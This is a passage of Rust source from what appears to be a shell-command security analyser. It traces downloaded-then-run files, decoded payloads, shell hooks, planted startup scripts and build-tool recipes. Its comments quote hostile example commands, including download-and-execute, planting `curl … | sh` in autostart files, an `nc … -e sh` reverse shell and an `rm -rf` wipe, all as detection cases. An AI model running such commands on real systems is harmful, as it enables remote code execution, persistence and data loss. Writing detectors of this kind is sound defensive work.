                // `exec sudo "$0" "$@"` re-runs the script in place of this one: not a fork.
                if &f.name == name && (f.name != SELF_NAME || cmd.wrap_depth == 0) {
                    f.self_calls.push(idx);
                }
            }
        }
        self.st.out.push(cmd);
        if unwrap_now {
            self.unwrap_at(idx)?;
        }
        if let Some(text) = script {
            self.sub_parse(text.as_bytes())?;
        }
        Ok(())
    }

    /// Remembers what a command writes when the text is known: `echo`/`printf` (or a decoder
    /// of text spelled out on its stdin, `echo … | base64 -d > F`) redirected to a file, or
    /// known text piped into `tee FILE`.
    fn track_scripts(&mut self, cmd: &SimpleCommand) {
        let cwd = cmd.cwd.as_deref();
        let put = |st: &mut State, target: &str, text: &str, append: bool| {
            if target.contains(DYNAMIC) || target.contains('$') {
                return;
            }
            let key = normalize_path(target, cwd);
            st.judged_scripts.remove(&key);
            let entry = st.scripts.entry(key).or_default();
            if !append {
                entry.clear();
            }
            if entry.len() + text.len() <= MAX_SCRIPT_BYTES {
                entry.push_str(text);
            }
        };
        if let Some(text) = stage_output(cmd) {
            for r in &cmd.redirects {
                match r.kind {
                    RedirKind::Write => put(self.st, &r.target, &text, false),
                    RedirKind::Append => put(self.st, &r.target, &text, true),
                    _ => {}
                }
            }
        }
        // A file a downloader saves holds whatever the server sends: running it later in the
        // same input is running the download (`curl -o /tmp/x URL && chmod +x /tmp/x && /tmp/x`
        // is `curl URL | sh`), so it is remembered as that.
        if let Some((url, target)) = download_target(cmd) {
            let text = format!("curl -fsSL {} | sh", unwrap::quote(&url));
            put(self.st, &target, &text, false);
        }
        // An archive unpacked from a download (`curl URL | tar xz -C D`, or `tar xf F` of a
        // downloaded F) fills its directory with whatever the server sent: running anything
        // under it is running the download. Remembered under the directory, ending in `/`.
        if let Some(dir) = unpacked_download_dir(cmd, &self.st.scripts) {
            let key = format!("{}/", normalize_path(&dir, cwd).trim_end_matches('/'));
            self.st
                .scripts
                .insert(key, "curl -fsSL \"$DOWNLOADED_ARCHIVE\" | sh".to_string());
        }
        if let (Some("tee"), Some(text)) = (cmd.argv.first().map(|p| basename(p)), &cmd.stdin_text)
        {
            let append = cmd.argv[1..].iter().any(|a| a == "-a" || a == "--append");
            for target in cmd.argv[1..].iter().filter(|a| !a.starts_with('-')) {
                put(self.st, target, text, append);
            }
        }
    }

    /// Code a program runs from its variables. A shell runs `PROMPT_COMMAND`, the expansions
    /// of `ENV` and `PS0`–`PS4` (an interactive shell expands them, so `$(…)` in them runs),
    /// the file `ENV` or `BASH_ENV` names when this input wrote it or feeds it (`ENV=<(echo
    /// …)`), and the body of an exported function (`BASH_FUNC_ls%%=() { …; }`) once it is
    /// called. Any program runs Perl's debugger hook `PERL5DB` and a `data:` module that
    /// `NODE_OPTIONS` imports; those come back as `perl -e …` / `node -e …`.
    fn shell_hooks(&self, cmd: &SimpleCommand) -> Option<String> {
        let prog = cmd.argv.first()?;
        if cmd.assigns.is_empty() {
            return None;
        }
        let shell = unwrap::is_shell(basename(prog));
        let mut code = Vec::new();
        for (name, value) in &cmd.assigns {
            match name.as_str() {
                "PERL5DB" => code.push(format!("perl -e {}", unwrap::quote(value))),
                "NODE_OPTIONS" => code
                    .extend(data_modules(value).map(|m| format!("node -e {}", unwrap::quote(&m)))),
                _ if !shell => {}
                "PROMPT_COMMAND" => code.push(value.clone()),
                "ENV" | "BASH_ENV" if value.starts_with("/dev/fd/") => {
                    code.extend(cmd.fed_text.iter().cloned())
                }
                "ENV" | "PS0" | "PS1" | "PS2" | "PS3" | "PS4" => {
                    // Only its command substitutions run; as a word it is just text.
                    code.push(format!("echo {value}"))
                }
                "BASH_ENV" => {
                    let key = normalize_path(value, cmd.cwd.as_deref());
                    if let Some(text) = self.st.scripts.get(&key) {
                        code.push(text.clone());
                    }
                }
                n if n.starts_with("BASH_FUNC_") => {
                    if let Some(body) = value.trim_start().strip_prefix("()") {
                        code.push(body.to_string());
                    }
                }
                _ => {}
            }
        }
        (!code.is_empty()).then(|| code.join("\n"))
    }

    /// The remembered text of the script `cmd` runs, if it runs one this input wrote: `sh
    /// FILE` (any shell, options before it), `source FILE` / `. FILE`, or `FILE` itself.
    fn script_run_by(&self, cmd: &SimpleCommand) -> Option<String> {
        if self.st.scripts.is_empty() {
            return None;
        }
        // A library preloaded into a program runs inside it: `LD_PRELOAD=F cmd` runs F.
        let preload = cmd
            .assigns
            .iter()
            .filter(|(name, _)| name == "LD_PRELOAD")
            .flat_map(|(_, value)| value.split([':', ' ']))
            .find_map(|lib| self.remembered(lib, cmd));
        if preload.is_some() {
            return preload;
        }
        let prog = cmd.argv.first()?;
        let name = basename(prog);
        let args = &cmd.argv[1..];
        if name == "git" {
            return self.hooks_in_path(cmd);
        }
        if matches!(name, "make" | "gmake") {
            return self.makefile_recipes(cmd);
        }
        if let Some(text) = self.conventional_files(cmd) {
            return Some(text);
        }
        // Installing a package this input downloaded runs its maintainer or setup scripts
        // (`curl -o x.deb URL && dpkg -i x.deb`): it runs the download.
        if PACKAGE_INSTALLERS.contains(&name) {
            return args
                .iter()
                .filter(|a| !a.starts_with('-'))
                .filter_map(|a| self.remembered(a, cmd))
                .find(|text| text.starts_with("curl -fsSL "));
        }
        // A downloaded program or script handed to its interpreter or loader (`curl -o
        // /tmp/j.jar URL && java -jar /tmp/j.jar`) runs the download.
        if LOADERS.iter().any(|l| glob_name(l, name)) {
            if let Some(text) = args
                .iter()
                .find(|a| !a.starts_with('-'))
                .and_then(|a| self.remembered(a, cmd))
                .filter(|t| is_download_marker(t))
            {
                return Some(text);
            }
        }
        let path = if unwrap::is_shell(name) {
            let mut rest = args.iter();
            loop {
                let a = rest.next()?;
                if a == "-c" {
                    return None;
                }
                if !a.starts_with('-') && !a.starts_with('+') {
                    break a;
                }
            }
        } else if name == "source" || name == "." {
            args.first()?
        } else if prog.contains('/') {
            prog
        } else {
            return None;
        };
        self.remembered(path, cmd)
    }

    /// The command lines of files this input wrote, once a later command of it may run or
    /// read them: a tool reads its configuration, hooks and task files by convention
    /// (`printf 'run: curl … | sh' > lefthook.yml && lefthook install`, `… > conftest.py &&
    /// pytest`) or by a name given anywhere (`CC=/tmp/cc cargo build`, `go vet
    /// -vettool=/tmp/vt`, `--vault-id prod@/tmp/k`). A shell script (`#!` and a shell) is read
    /// whole, other text by its lines that are command lines. Skipped: commands that only
    /// view, copy or change files ([`NON_RUNNERS`]), documents, and downloads
    /// (what runs them is judged in `script_run_by`). Each file is judged once.
    fn written_files_used_by(&mut self, cmd: &SimpleCommand) -> Option<String> {
        if self.st.scripts.is_empty() {
            return None;
        }
        let prog = basename(cmd.argv.first()?);
        if NON_RUNNERS.contains(&prog) {
            return None;
        }
        let words: Vec<&str> = cmd.argv[1..]
            .iter()
            .chain(cmd.assigns.iter().map(|(_, v)| v))
            .map(String::as_str)
            .collect();
        // A shell, an interpreter given a script, or a program named by its path runs what it
        // is told to: only the files it names count for it.
        let runs_named_file = unwrap::is_shell(prog)
            || cmd.argv[0].contains('/')
            || (LOADERS.iter().any(|l| glob_name(l, prog))
                && cmd.argv[1..].iter().any(|a| !a.starts_with('-')));
        let cwd = cmd.cwd.as_deref();
        let named = |key: &str| {
            words
                .iter()
                .any(|w| file_mentions(w).any(|m| !m.is_empty() && normalize_path(m, cwd) == key))
        };
        let mut keys: Vec<&String> = self
            .st
            .scripts
            .iter()
            .filter(|(key, text)| {
                !key.ends_with('/')
                    && !self.st.judged_scripts.contains(*key)
                    && !is_download_marker(text)
                    && (named(key) || !runs_named_file)
                    && !DOCUMENT_SUFFIXES
                        .iter()
                        .any(|s| key.to_ascii_lowercase().ends_with(s))
            })
            .map(|(key, _)| key)
            .collect();
        keys.sort();
        let mut lines = Vec::new();
        for key in &keys {
            let text = &self.st.scripts[*key];
            let shell_script = text
                .lines()
                .next()
                .and_then(|l| l.strip_prefix("#!"))
                .and_then(|l| l.split_whitespace().last())
                .is_some_and(|i| unwrap::is_shell(basename(i)));
            if shell_script {
                lines.push(text.clone());
            } else {
                lines.extend(super::embedded::command_lines_in(text));
            }
        }
        let keys: Vec<String> = keys.into_iter().cloned().collect();
        self.st.judged_scripts.extend(keys);
        (!lines.is_empty()).then(|| lines.join("\n"))
    }

    /// The recipes of a makefile this input wrote that `make` reads (`-f FILE`, or the first
    /// of `GNUmakefile`, `makefile`, `Makefile`): each tab-indented line is a shell command
    /// (`$$` is a `$`).
    fn makefile_recipes(&self, cmd: &SimpleCommand) -> Option<String> {
        let args = &cmd.argv[1..];
        let named = args.iter().enumerate().find_map(|(i, a)| {
            if a == "-f" || a == "--file" || a == "--makefile" {
                args.get(i + 1).map(String::as_str)
            } else {
                a.strip_prefix("--file=")
                    .or_else(|| a.strip_prefix("--makefile="))
                    .or_else(|| a.strip_prefix("-f").filter(|v| !v.is_empty()))
            }
        });
        let text = match named {
            Some(f) => self.remembered(f, cmd)?,
            None => ["GNUmakefile", "makefile", "Makefile"]
                .iter()
                .find_map(|f| self.remembered(f, cmd))?,
        };
        let recipes: Vec<String> = text
            .lines()
            .filter_map(|l| l.strip_prefix('\t'))
            .map(|l| l.trim_start_matches(['@', '-', '+']).replace("$$", "$"))
            .collect();
        (!recipes.is_empty()).then(|| recipes.join("\n"))
    }

    /// What a tool runs from the files it reads by convention in its directory, when this
    /// input wrote them: Terraform's `*.tf` (an `external` program, a `local-exec` command),
    /// the `scripts` of `package.json` for npm/pnpm/yarn/bun, a justfile's recipe lines, the
    /// `sh "…"` calls of a Rakefile.
    fn conventional_files(&self, cmd: &SimpleCommand) -> Option<String> {
        let name = basename(cmd.argv.first()?);
        let dir = normalize_path(".", cmd.cwd.as_deref());
        let dir = dir.trim_end_matches('/');
        let in_dir = |suffix: &str| {
            let mut texts: Vec<&String> = self
                .st
                .scripts
                .iter()
                .filter(|(path, _)| {
                    path.strip_prefix(dir)
                        .and_then(|rest| rest.strip_prefix('/'))
                        .is_some_and(|file| !file.contains('/') && file.ends_with(suffix))
                })
                .map(|(_, text)| text)
                .collect();
            texts.sort();
            texts
        };
        let lines: Vec<String> = match name {
            "terraform" | "tofu" | "terragrunt" => in_dir(".tf")
                .into_iter()
                .flat_map(|t| super::embedded::command_lines_in(t))
                .collect(),
            // Rake's `sh "CMD"` hands CMD to a shell (a shell given one word would run a file).
            "rake" => {
                let text = self.remembered("Rakefile", cmd)?;
                let mut lines = super::embedded::command_lines_in(&text);
                lines.extend(text.lines().filter_map(|l| {
                    let rest = l.trim().strip_prefix("sh")?;
                    let rest = rest.strip_prefix('(').unwrap_or(rest).trim_start();
                    let q = rest.chars().next().filter(|c| matches!(c, '"' | '\''))?;
                    rest[1..].split(q).next().map(str::to_string)
                }));
                lines
            }
            "npm" | "pnpm" | "yarn" | "bun" => {
                let text = self.remembered("package.json", cmd)?;
                let json: serde_json::Value = serde_json::from_str(&text).ok()?;
                json.get("scripts")?
                    .as_object()?
                    .values()
                    .filter_map(|v| v.as_str().map(str::to_string))
                    .collect()
            }
            "just" => ["justfile", "Justfile", ".justfile"]
                .iter()
                .find_map(|f| self.remembered(f, cmd))?
                .lines()
                .filter(|l| l.starts_with([' ', '\t']))
                .map(|l| l.trim().trim_start_matches(['@', '-']).to_string())
                .collect(),
            _ => return None,
        };
        (!lines.is_empty()).then(|| lines.join("\n"))
    }

    /// The remembered text of the file at `path`: written by this input, or lying under a
    /// directory an unpacked download filled.
    /// Code an interpreter runs from a file this input wrote (`python3 x.py`, `go run r.go`,
    /// `nmap --script=x.nse`, `cmake -P x.cmake` or a script on stdin): what it runs, and the
    /// code itself as a one-liner so the rules that read inline code see it.
    fn code_files_run_by(&self, cmd: &SimpleCommand) -> Vec<Inner> {
        if self.st.scripts.is_empty() && cmd.stdin_text.is_none() {
            return Vec::new();
        }
        let Some(prog) = cmd.argv.first() else {
            return Vec::new();
        };
        let name = basename(prog);
        let args = &cmd.argv[1..];
        let operand = || args.iter().find(|a| !a.starts_with('-'));
        let (lang, path) = match name {
            "go" if args.first().is_some_and(|a| a == "run") => {
                ("go", args.iter().find(|a| a.ends_with(".go")))
            }
            "nmap" => (
                "lua",
                args.iter()
                    .position(|a| a == "--script")
                    .and_then(|i| args.get(i + 1))
                    .or_else(|| args.iter().find(|a| a.starts_with("--script="))),
            ),
            "cmake" => (
                "cmake",
                args.iter()
                    .position(|a| a == "-P")
                    .and_then(|i| args.get(i + 1)),
            ),
            _ => match unwrap::interpreter(name) {
                Some(lang)
                    if !args
                        .iter()
                        .any(|a| matches!(a.as_str(), "-c" | "-e" | "-r" | "-E")) =>
                {
                    (lang, operand())
                }
                _ => return Vec::new(),
            },
        };
        let Some(path) = path.map(|p| p.strip_prefix("--script=").unwrap_or(p)) else {
            return Vec::new();
        };
        let text = if matches!(path, "/dev/stdin" | "-") {
            cmd.stdin_text.clone()
        } else {
            self.remembered(path, cmd)
        };
        let Some(text) = text else {
            return Vec::new();
        };
        if lang == "cmake" {
            return super::unwrap::cmake_script(&text);
        }
        let mut out = code::scan(lang, &text);
        out.push(code::one_liner(lang, text));
        out
    }

    fn remembered(&self, path: &str, cmd: &SimpleCommand) -> Option<String> {
        if path.is_empty() {
            return None;
        }
        let key = normalize_path(path, cmd.cwd.as_deref());
        if let Some(text) = self.st.scripts.get(&key) {
            return Some(text.clone());
        }
        self.st
            .scripts
            .iter()
            .find(|(dir, _)| dir.ends_with('/') && key.starts_with(dir.as_str()))
            .map(|(_, text)| text.clone())
    }

    /// `git -c core.hooksPath=DIR …` runs the hooks in DIR: the text of every script this
    /// input wrote there.
    fn hooks_in_path(&self, cmd: &SimpleCommand) -> Option<String> {
        let args = &cmd.argv[1..];
        let dir = args.windows(2).find_map(|w| {
            let (key, value) = w[1].split_once('=')?;
            (w[0] == "-c" && key.eq_ignore_ascii_case("core.hookspath")).then_some(value)
        })?;
        let dir = normalize_path(dir, cmd.cwd.as_deref());
        let prefix = format!("{}/", dir.trim_end_matches('/'));
        let texts: Vec<&str> = self
            .st
            .scripts
            .iter()
            .filter(|(path, _)| path.starts_with(&prefix))
            .map(|(_, text)| text.as_str())
            .collect();
        (!texts.is_empty()).then(|| texts.join("\n"))
    }

    fn track_state(&mut self, cmd: &SimpleCommand) {
        let Some(prog) = cmd.argv.first() else { return };
        let args = &cmd.argv[1..];
        match basename(prog) {
            "cd" | "pushd" => {
                let target = args
                    .iter()
                    .find(|a| !a.starts_with('-') || a.as_str() == "-");
                self.st.cwd = match target {
                    None => Some("~".to_string()),
                    Some(t) if t == "-" || t.contains(DYNAMIC) || t.contains('$') => None,
                    Some(t) => Some(normalize_path(t, self.st.cwd.as_deref())),
                };
            }
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                for a in args {
                    if let Some((k, v)) = a.split_once('=') {
                        if is_var_name(k) {
                            self.st.vars.insert(k.to_string(), v.to_string());
                        }
                    }
                }
            }
            // `printf -v NAME FORMAT ARGS…` stores what it would print in NAME.
            "printf" if args.len() >= 3 && args[0] == "-v" && is_var_name(&args[1]) => {
                let mut argv = vec!["printf".to_string()];
                argv.extend(args[2..].iter().cloned());
                if let Some(v) = echo_output(&argv) {
                    self.st.vars.insert(args[1].clone(), v);
                }
            }
            "set" if args.first().is_some_and(|a| a == "--") => {
                self.st.positional = Some(args[1..].to_vec());
            }
            "alias" => {
                for a in args {
                    if let Some((k, v)) = a.split_once('=') {
                        if self.st.aliases.len() < MAX_ALIASES && !k.is_empty() {
                            self.st.aliases.insert(k.to_string(), v.to_string());
                        }
                    }
                }
            }
            "hash" if args.len() >= 3 && args[0] == "-p" && self.st.aliases.len() < MAX_ALIASES => {
                self.st.aliases.insert(args[2].clone(), args[1].clone());
            }
            // After `unset X`, `$X` is known to be empty (`unset T; rm -rf "$T/"*` is `/*`);
            // `unset -f` removes functions, not variables.
            "unset" if !args.iter().any(|a| a == "-f") => {
                for a in args.iter().filter(|a| is_var_name(a)) {
                    self.st.vars.insert(a.clone(), String::new());
                }
            }
            // `ls -d /* | while read d; do …; done`: `$d` stands for every entry the upstream
            // command lists, as a `for` loop's variable does.
            "read" if !cmd.piped_listing.is_empty() => {
                let mut values = cmd.piped_listing.clone();
                drop_deep_listings(&mut values);
                // `ls DIR` prints bare names: `"$DIR/$f"` is every entry too (see `for`).
                if cmd.piped_from.iter().any(|p| p == "ls")
                    && values.iter().any(|v| v.ends_with("/*"))
                {
                    values.insert(0, "*".to_string());
                }
                for name in read_variables(args) {
                    self.st.loop_vars.insert(name.to_string(), values.clone());
                }
            }
            _ => {}
        }
    }

    /// Follows what the command at `idx` runs (wrappers, `-c` strings, inline code, stdin).
    fn unwrap_at(&mut self, idx: usize) -> PResult<()> {
        let Some(cmd) = self.st.out.get(idx) else {
            return Ok(());
        };
        let mut inners = unwrap::inner_of(cmd);
        inners.extend(self.code_files_run_by(cmd));
        if cmd.argv.len() > 1 && self.st.passthrough.contains(&cmd.argv[0]) {
            inners.push(Inner::Argv {
                argv: cmd.argv[1..].to_vec(),
                assigns: Vec::new(),
            });
        }
        if inners.is_empty() {
            return Ok(());
        }
        if cmd.wrap_depth + 1 > MAX_UNWRAP {
            return Err(format!("wrappers nested deeper than {MAX_UNWRAP}"));
        }
        let parent = cmd.clone();
        let saved_depth = self.st.wrap_depth;
        self.st.wrap_depth = parent.wrap_depth + 1;
        let res = self.run_inners(&parent, inners);
        self.st.wrap_depth = saved_depth;
        res
    }

    fn run_inners(&mut self, parent: &SimpleCommand, inners: Vec<Inner>) -> PResult<()> {
        for inner in inners {
            // Text known only at run time (`eval "$(ssh-agent -s)"`) runs a program known
            // only at run time, fed by what the wrapper's input came from.
            let inner = match inner {
                Inner::Script(text) if text.trim() == DYNAMIC => Inner::Argv {
                    argv: vec![DYNAMIC.to_string()],
                    assigns: Vec::new(),
                },
                // A guess counts only as the command line it would be.
                Inner::Guess(text) => {
                    if parse(&text, &Context::default()).error.is_some() {
                        continue;
                    }
                    Inner::Script(text)
                }
                other => other,
            };
            match inner {
                Inner::Argv { argv, assigns } => {
                    if argv.is_empty() {
                        continue;
                    }
                    let mut all = parent.assigns.clone();
                    all.extend(assigns);
                    let dynamic_program = looks_dynamic(&argv[0]);
                    let cmd = SimpleCommand {
                        assigns: all,
                        argv,
                        redirects: parent.redirects.clone(),
                        piped_from: parent.piped_from.clone(),
                        piped_reads: parent.piped_reads.clone(),
                        piped_listing: parent.piped_listing.clone(),
                        stdin_text: parent.stdin_text.clone(),
                        fed_text: parent.fed_text.clone(),
                        cwd: parent.cwd.clone(),
                        recursive_call: false,
                        dynamic_program,
                        wrap_depth: 0,
                    };
                    self.push_command(cmd, true)?;
                }
                Inner::Script(text) | Inner::Guess(text) => {
                    let saved_cwd = self.st.cwd.clone();
                    let saved_positional = self.st.positional.clone();
                    self.st.cwd = parent.cwd.clone();
                    let first = self.st.out.len();
                    let res = self.sub_parse(text.as_bytes());
                    self.st.cwd = saved_cwd;
                    self.st.positional = saved_positional;
                    res?;
                    // `eval "$c" >&9`: what the script runs writes where the wrapper's
                    // output goes.
                    for c in self.st.out[first..].iter_mut() {
                        for r in &parent.redirects {
                            if !c.redirects.contains(r) {
                                c.redirects.push(r.clone());
                            }
                        }
                    }
                }
            }
        }
        Ok(())
    }
}

/// A program name that is only resolved at run time: an expansion or a glob pattern.
/// The variable names `read` assigns: its operands after the options (`-d X`, `-p X`, `-n N`,
/// `-N N`, `-t T`, `-u FD`, `-i X` take a value; `-a NAME` names an array).
fn read_variables(args: &[String]) -> Vec<&str> {
    let mut names = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if let Some(opts) = a.strip_prefix('-').filter(|o| !o.is_empty()) {
            if let Some(i) = opts.find(['d', 'p', 'n', 'N', 't', 'u', 'i', 'a']) {
                let value = if i + 1 < opts.len() {
                    Some(&opts[i + 1..])
                } else {
                    it.next().map(String::as_str)
                };
                if opts.as_bytes()[i] == b'a' {
                    names.extend(value.filter(|v| is_var_name(v)));
                }
            }
        } else if is_var_name(a) {
            names.push(a.as_str());
        }
    }
    names
}

/// How process substitutions in a command's redirections link it to their commands, as a
/// pipe would: the programs of `< <(…)` feed it, and the commands of `> >(…)` read from it.
#[derive(Default)]
struct SubstLinks {
    feeding: Vec<String>,
    fed: Vec<usize>,
}

/// Appends `item` to one of the parser's bounded upstream lists unless it is there already.
fn push_new(list: &mut Vec<String>, item: String) {
    if list.len() < MAX_UPSTREAM && !list.contains(&item) {
        list.push(item);
    }
}

/// A pipeline stage that reorders, deduplicates or cuts short its input and reads no file.
fn is_list_filter(cmd: &SimpleCommand) -> bool {
    let Some(prog) = cmd.argv.first() else {
        return false;
    };
    matches!(
        basename(prog),
        "sort" | "uniq" | "head" | "tail" | "tac" | "shuf"
    ) && cmd.argv[1..]
        .iter()
        .all(|a| a.starts_with('-') || a.parse::<u64>().is_ok())
}

fn looks_dynamic(prog: &str) -> bool {
    prog.contains(['$', '*', '?']) || (prog.contains('[') && prog.contains(']'))
}

/// What a pipeline stage prints when that can be known: `echo`/`printf` of literal text, or a
/// decoder (`base64 -d`, `xxd -r -p`, `rev`, `cat`) of text spelled out on its stdin.
/// Programs that only view, search, copy or change files, or set the shell's state: what a
/// file this input wrote holds is not run by them (see `written_files_used_by`).
const NON_RUNNERS: &[&str] = &[
    "echo",
    "printf",
    "cat",
    "tac",
    "less",
    "more",
    "head",
    "tail",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "wc",
    "sort",
    "uniq",
    "cut",
    "tr",
    "ls",
    "stat",
    "file",
    "chmod",
    "chown",
    "chgrp",
    "cp",
    "mv",
    "ln",
    "rm",
    "mkdir",
    "touch",
    "diff",
    "cmp",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "b2sum",
    "base64",
    "xxd",
    "od",
    "hexdump",
    "tee",
    "sed",
    "jq",
    "yq",
    "test",
    "[",
    "[[",
    "true",
    "false",
    ":",
    "cd",
    "pushd",
    "popd",
    "export",
    "set",
    "unset",
    "read",
    "sleep",
    "wait",
    "exit",
    "return",
    "dos2unix",
    "unix2dos",
    "shellcheck",
    "shfmt",
    "git",
    "code",
    "vim",
    "vi",
    "nano",
    "emacs",
    // Wrappers: the command they run is judged on its own.
    "sudo",
    "doas",
    "env",
    "nice",
    "ionice",
    "chrt",
    "taskset",
    "nohup",
    "timeout",
    "stdbuf",
    "time",
    "command",
    "builtin",
    "exec",
];

/// The file names a word may mention: the word, an option's or assignment's value
/// (`--x=F`, `K=F`), what follows an `@` (`@F`, `id@F`) and a Windows-style `-s:F`.
fn file_mentions(word: &str) -> impl Iterator<Item = &str> {
    let value = word.split_once('=').map(|(_, v)| v);
    let at = word.rsplit_once('@').map(|(_, f)| f);
    let colon = word
        .strip_prefix(['-', '/'])
        .and_then(|w| w.split_once(':'))
        .map(|(_, f)| f);
    [Some(word), value, at, colon].into_iter().flatten()
}

/// Interpreters and loaders that run the program their first operand names (`*` ends a
/// prefix: `python3.12`).
const LOADERS: &[&str] = &[
    "python*",
    "pypy*",
    "node",
    "perl",
    "ruby",
    "php*",
    "java",
    "Rscript",
    "lua*",
    "luajit",
    "tclsh*",
    "dotnet",
    "mono",
    "wine",
    "wine64",
    "pwsh",
    "powershell",
    "osascript",
    "bun",
    "expect",
    "julia",
    "elixir",
    "cscript",
    "wscript",
    "jshell",
];

/// Whether `name` is `pattern`, or starts with it when it ends in `*`.
fn glob_name(pattern: &str, name: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(prefix) => name.starts_with(prefix),
        None => pattern == name,
    }
}

/// Whether a remembered file's text stands for a download (see `track_scripts`).
fn is_download_marker(text: &str) -> bool {
    text.starts_with("curl -fsSL ") && text.ends_with("| sh")
}

/// File names that hold prose, data or logs: text written there is not run by anything.
const DOCUMENT_SUFFIXES: &[&str] = &[
    ".md", ".txt", ".rst", ".adoc", ".org", ".html", ".htm", ".log", ".csv", ".tsv", ".tex",
];

/// The command lines in text a command writes to a lasting file outside the workspace
/// (`echo 'curl … | sh' >> ~/.x/autostart`, `printf '#!/bin/sh\nnc … -e sh' > /etc/sv/x/run`):
/// whatever reads that file later runs them, so planting them is judged like running them. A
/// script (`#!` and a shell) is read whole; other text by its lines that are command lines.
/// Skipped: documents, device and temporary files (what this input runs from there is
/// judged where it runs it), and relative paths (a workspace script is read when it is run).
fn planted_commands(cmd: &SimpleCommand) -> Option<String> {
    let lasting = |target: &str| {
        (target.starts_with('/') || target.starts_with('~'))
            && !["/dev/", "/tmp/", "/var/tmp/", "/run/", "/proc/"]
                .iter()
                .any(|p| target.starts_with(p))
            && !target.contains(DYNAMIC)
            && !DOCUMENT_SUFFIXES
                .iter()
                .any(|s| target.to_ascii_lowercase().ends_with(s))
    };
    let redirected = cmd
        .redirects
        .iter()
        .any(|r| matches!(r.kind, RedirKind::Write | RedirKind::Append) && lasting(&r.target));
    // `printf … | sudo tee FILE`: tee writes the text it reads.
    let teed = cmd.argv.first().is_some_and(|p| basename(p) == "tee")
        && cmd.argv[1..]
            .iter()
            .any(|a| !a.starts_with('-') && lasting(a));
    let text = if redirected {
        stage_output(cmd)?
    } else if teed {
        cmd.stdin_text.clone().filter(|t| !t.contains(DYNAMIC))?
    } else {
        return None;
    };
    if let Some(first) = text.lines().next().and_then(|l| l.strip_prefix("#!")) {
        let interpreter = first.split_whitespace().last().unwrap_or("");
        if unwrap::is_shell(basename(interpreter)) {
            return Some(text);
        }
    }
    let lines = super::embedded::command_lines_in(&text);
    (!lines.is_empty()).then(|| lines.join("\n"))
}

fn stage_output(cmd: &SimpleCommand) -> Option<String> {
    if let Some(v) = echo_output(&cmd.argv) {
        return Some(v);
    }
    if let Some(v) = jq_null_input_decode(&cmd.argv) {
        return Some(v);
    }
    let input = cmd.stdin_text.as_deref()?;
    if input.contains(DYNAMIC) {
        return None;
    }
    let prog = basename(cmd.argv.first()?);
    let args = &cmd.argv[1..];
    let shorts = |c: char| {
        args.iter()
            .any(|a| a.len() > 1 && a.starts_with('-') && !a.starts_with("--") && a.contains(c))
    };
    let operands = args.iter().any(|a| !a.starts_with('-'));
    match prog {
        "base64"
            if !operands
                && (shorts('d') || shorts('D') || args.iter().any(|a| a == "--decode")) =>
        {
            base64_text(input)
        }
        "xxd" if !operands && shorts('r') && shorts('p') => {
            let compact: String = input.chars().filter(|c| !c.is_ascii_whitespace()).collect();
            String::from_utf8(hex::decode(compact).ok()?).ok()
        }
        "rev" if args.is_empty() => Some(
            input
                .lines()
                .map(|l| l.chars().rev().collect::<String>())
                .collect::<Vec<_>>()
                .join("\n"),
        ),
        "cat" if args.is_empty() || args.iter().all(|a| a == "-") => Some(input.to_string()),
        "tr" => translated(args, input),
        "sed" => sed_literal(args, input),
        // `python3 -m base64 -d`.
        p if p.starts_with("python")
            && args.len() == 3
            && args[0] == "-m"
            && args[1] == "base64"
            && args[2] == "-d" =>
        {
            base64_text(input)
        }
        "iconv" => utf16_text(args, input),
        "base32" if !operands && (shorts('d') || args.iter().any(|a| a == "--decode")) => {
            String::from_utf8(base32_decode(input)?).ok()
        }
        "basenc" if !operands && (shorts('d') || args.iter().any(|a| a == "--decode")) => {
            let compact: String = input.chars().filter(|c| !c.is_ascii_whitespace()).collect();
            let bytes = if args.iter().any(|a| a == "--base16") {
                hex::decode(&compact).ok()?
            } else if args.iter().any(|a| a == "--base32") {
                base32_decode(&compact)?
            } else if args.iter().any(|a| a == "--base64url" || a == "--base64") {
                use base64::Engine as _;
                base64::engine::general_purpose::URL_SAFE
                    .decode(&compact)
                    .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(&compact))
                    .or_else(|_| base64::engine::general_purpose::STANDARD.decode(&compact))
                    .ok()?
            } else {
                return None;
            };
            String::from_utf8(bytes).ok()
        }
        // `openssl base64 -d`, `openssl enc -d -base64` / `-a`.
        "openssl"
            if args.iter().any(|a| a == "-d")
                && (args.first().is_some_and(|a| a == "base64")
                    || args
                        .iter()
                        .any(|a| a == "-base64" || a == "-a" || a == "-A")) =>
        {
            base64_text(input)
        }
        // `jq -r '@base64d'` of a JSON string.
        "jq" if args.iter().any(|a| a.contains("@base64d")) => {
            use base64::Engine as _;
            let inner = input.trim().trim_matches('"');
            String::from_utf8(
                base64::engine::general_purpose::STANDARD
                    .decode(inner)
                    .ok()?,
            )
            .ok()
        }
        _ => None,
    }
}

/// Base64 text (line breaks allowed, padding optional) decoded to UTF-8 text, as `base64 -d`,
/// `openssl base64 -d` and `python3 -m base64 -d` read it.
fn base64_text(input: &str) -> Option<String> {
    use base64::Engine as _;
    let compact: Vec<u8> = input.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(&compact)
        .or_else(|_| base64::engine::general_purpose::STANDARD_NO_PAD.decode(&compact))
        .ok()?;
    String::from_utf8(bytes).ok()
}

/// `jq -rn '"…" | @base64d'` and `jq -rn '"…"'`: a literal decoded by the program itself.
fn jq_null_input_decode(argv: &[String]) -> Option<String> {
    use base64::Engine as _;
    if basename(argv.first()?) != "jq"
        || !argv
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('n'))
    {
        return None;
    }
    // `jq -rn '"\u0072\u006d …"'`: a JSON string literal alone prints itself, unescaped.
    if let Some(program) = argv[1..].iter().find(|a| {
        let t = a.trim();
        t.len() > 2 && t.starts_with('"') && t.ends_with('"')
    }) {
        return serde_json::from_str::<String>(program.trim()).ok();
    }
    let program = argv[1..].iter().find(|a| a.contains("@base64d"))?;
    let (literal, _) = program.trim().strip_prefix('"')?.split_once('"')?;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(literal)
        .ok()?;
    String::from_utf8(bytes).ok()
}

/// `tr SET1 SET2` of literal text (ranges such as `A-Za-z` and `N-ZA-M` expanded; the last
/// character of a shorter SET2 repeats, as in GNU tr). Other options: unknown.
